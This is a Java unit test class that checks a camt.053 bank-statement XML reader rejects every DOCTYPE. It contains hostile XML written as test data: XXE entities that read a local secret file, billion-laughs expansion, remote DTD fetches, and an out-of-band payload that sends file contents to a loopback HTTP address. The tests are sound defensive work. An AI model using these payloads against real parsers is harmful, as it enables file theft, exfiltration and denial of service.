package io.finbatch.readers.camt;

import io.finbatch.readers.StatementFormatException;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

/**
 * Hostile XML: every DOCTYPE is rejected before anything in it is processed. The file-based cases go
 * through the product's path ({@code StatementFormats}, events, {@code parse} JSON) and check that no
 * local file is read (a secret marker never shows in any output, message or printed line), that a
 * loopback web server is never contacted, and that nothing is expanded in memory.
 */
class CamtSecurityTest {

    private static final String MARKER = "TOP-SECRET-7f3a91";
    /** Reading a small statement allocates well under this; an expanded billion laughs would need gigabytes. */
    private static final long ALLOCATION_LIMIT = 64L * 1024 * 1024;

    @TempDir
    Path dir;

    private Path secret;
    private LoopbackHttpServer server;

    @BeforeEach
    void secretFileAndLoopbackServer() throws IOException {
        secret = Files.writeString(dir.resolve("secret.txt"), MARKER);
        server = new LoopbackHttpServer("<!ENTITY % file SYSTEM \"" + secret.toUri() + "\">"
                + "<!ENTITY % send \"<!ENTITY &#x25; leak SYSTEM 'http://127.0.0.1:9/?%file;'>\"> %send;");
    }

    @AfterEach
    void stopServer() {
        server.close();
    }

    @Test
    void externalEntityIsRejected() {
        String xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE Document [ <!ENTITY xxe SYSTEM \"" + secret.toUri() + "\"> ]>\n"
                + CamtXml.statementWithEntries("").replace("<Id>STMT-1</Id>", "<Id>&xxe;</Id>")
                        .replace("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n", "");

        StatementFormatException e = rejected(xml);

        assertThat(e.getMessage()).doesNotContain(MARKER);
    }

    @Test
    void billionLaughsIsRejected() {
        StringBuilder dtd = new StringBuilder("<!DOCTYPE Document [\n<!ENTITY lol0 \"lol\">\n");
        for (int i = 1; i <= 9; i++) {
            dtd.append("<!ENTITY lol").append(i).append(" \"");
            dtd.append(("&lol" + (i - 1) + ";").repeat(10)).append("\">\n");
        }
        dtd.append("]>\n");
        String xml = dtd + CamtXml.statementWithEntries("").replace("<Id>STMT-1</Id>", "<Id>&lol9;</Id>")
                .replace("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n", "");

        rejected(xml);
    }

    @Test
    void externalDtdIsRejected() throws IOException {
        Path dtd = Files.writeString(dir.resolve("evil.dtd"), "<!ENTITY x \"y\">");
        String xml = "<!DOCTYPE Document SYSTEM \"" + dtd.toUri() + "\">\n"
                + CamtXml.statementWithEntries("").replace("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n", "");

        rejected(xml);
    }

    @Test
    void parameterEntityFetchingARemoteDtdIsRejected() {
        String xml = "<!DOCTYPE Document [ <!ENTITY % remote SYSTEM \"http://127.0.0.1:9/evil.dtd\"> %remote; ]>\n"
                + CamtXml.statementWithEntries("").replace("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n", "");

        rejected(xml);
    }

    @Test
    void anExternalEntityNeverReadsTheLocalFile() throws IOException {
        Path file = hostile("xxe.xml", "<!DOCTYPE Document [ <!ENTITY xxe SYSTEM \"" + secret.toUri() + "\"> ]>\n",
                "<Id>&xxe;</Id>");

        assertRefusedWithoutTrace(file, HostileXmlOutcome.read(file));
    }

    @Test
    void anExternalEntityInAnAttributeNeverReadsTheLocalFile() throws IOException {
        Path file = hostile("xxe-attribute.xml", "<!DOCTYPE Document [ <!ENTITY xxe SYSTEM \"" + secret.toUri()
                + "\"> ]>\n", "<Id>STMT-1</Id><Nb x=\"&xxe;\">1</Nb>");

        assertRefusedWithoutTrace(file, HostileXmlOutcome.read(file));
    }

    @Test
    void billionLaughsIsRefusedWithoutExpandingAnything() throws IOException {
        StringBuilder dtd = new StringBuilder("<!DOCTYPE Document [\n<!ENTITY lol0 \"lol\">\n");
        for (int i = 1; i <= 12; i++) {
            dtd.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i - 1) + ";").repeat(10)).append("\">\n");
        }
        Path file = hostile("laughs.xml", dtd + "]>\n", "<Id>&lol12;</Id>");

        HostileXmlOutcome outcome = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> HostileXmlOutcome.read(file));

        assertRefusedWithoutTrace(file, outcome);
        assertThat(outcome.allocatedBytes()).as("bytes allocated reading it").isLessThan(ALLOCATION_LIMIT);
        assertThat(outcome.everything()).doesNotContain("lollollol");
    }

    @Test
    void anExternalDtdOverHttpIsNeverFetched() throws IOException {
        Path file = hostile("remote-dtd.xml", "<!DOCTYPE Document SYSTEM \"" + server.uri("/evil.dtd") + "\">\n",
                "<Id>STMT-1</Id>");

        assertRefusedWithoutTrace(file, HostileXmlOutcome.read(file));
    }

    @Test
    void anExternalEntityOverHttpIsNeverFetched() throws IOException {
        Path file = hostile("remote-entity.xml", "<!DOCTYPE Document [ <!ENTITY remote SYSTEM \""
                + server.uri("/entity") + "\"> ]>\n", "<Id>&remote;</Id>");

        assertRefusedWithoutTrace(file, HostileXmlOutcome.read(file));
    }

    /** The out-of-band exfiltration pattern: a remote DTD whose parameter entities read a file and send it on. */
    @Test
    void parameterEntitiesAreNeverExpanded() throws IOException {
        Path file = hostile("parameter-entities.xml", "<!DOCTYPE Document [ <!ENTITY % remote SYSTEM \""
                + server.uri("/evil.dtd") + "\"> <!ENTITY % local SYSTEM \"" + secret.toUri() + "\"> %remote; %local; ]>\n",
                "<Id>&leak;</Id>");

        assertRefusedWithoutTrace(file, HostileXmlOutcome.read(file));
    }

    /**
     * The reader has no XInclude processing (the JDK's StAX parser knows none): an include element is an
     * unknown element and is skipped; it never reads the file or fetches the URL it names.
     */
    @Test
    void xIncludeIsNeverProcessed() throws IOException {
        String include = "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"%s\"/>";
        Path file = hostile("xinclude.xml", "", "<Id>STMT-1" + include.formatted(secret.toUri()) + "</Id>"
                + include.formatted(server.uri("/include")));

        HostileXmlOutcome outcome = HostileXmlOutcome.read(file);

        assertThat(outcome.everything()).doesNotContain(MARKER);
        assertThat(server.requests()).as("requests to the loopback server").isEmpty();
        if (outcome.rejection() != null) {
            assertNamesFileAndLocation(file, outcome.rejection());
        } else {
            assertThat(outcome.output()).contains("\"id\":\"STMT-1\"");
        }
    }

    /** The server does record what is fetched, so an empty record above means nothing was fetched. */
    @Test
    void theLoopbackServerRecordsEveryRequest() throws IOException {
        assertThat(server.fetch("/evil.dtd")).contains("ENTITY");
        assertThat(server.requests()).containsExactly("/evil.dtd");
    }

    /** The sample camt.053 with a prolog (DOCTYPE) before its root and the statement Id replaced. */
    private Path hostile(String name, String prolog, String statementId) throws IOException {
        String statement = CamtXml.statementWithEntries(CamtXml.entry("10.00", "CRDT", ""))
                .replace("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n", "")
                .replace("<Id>STMT-1</Id>", statementId);
        return Files.writeString(dir.resolve(name), "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n" + prolog + statement,
                StandardCharsets.UTF_8);
    }

    private void assertRefusedWithoutTrace(Path file, HostileXmlOutcome outcome) {
        assertThat(outcome.rejection()).as("rejection of %s; output: %s", file.getFileName(), outcome.output())
                .isInstanceOf(StatementFormatException.class);
        assertNamesFileAndLocation(file, outcome.rejection());
        assertThat(outcome.rejection().reason()).startsWith("DTD not allowed");
        assertThat(outcome.everything()).doesNotContain(MARKER);
        assertThat(server.requests()).as("requests to the loopback server").isEmpty();
    }

    private static void assertNamesFileAndLocation(Path file, io.finbatch.readers.SourceFileException e) {
        assertThat(e.file()).isEqualTo(file.toString());
        assertThat(e.location()).isNotBlank();
        assertThat(e.getMessage()).contains(file.getFileName().toString(), e.location());
    }

    private static StatementFormatException rejected(String xml) {
        StatementFormatException e = catchThrowableOfType(StatementFormatException.class, () -> CamtXml.events(xml));
        assertThat(e).as("a document with a DOCTYPE must be rejected").isNotNull();
        assertThat(e.file()).isEqualTo(CamtXml.FILE);
        assertThat(e.location()).matches("line \\d+, column \\d+");
        assertThat(e.reason()).startsWith("DTD not allowed");
        return e;
    }
}
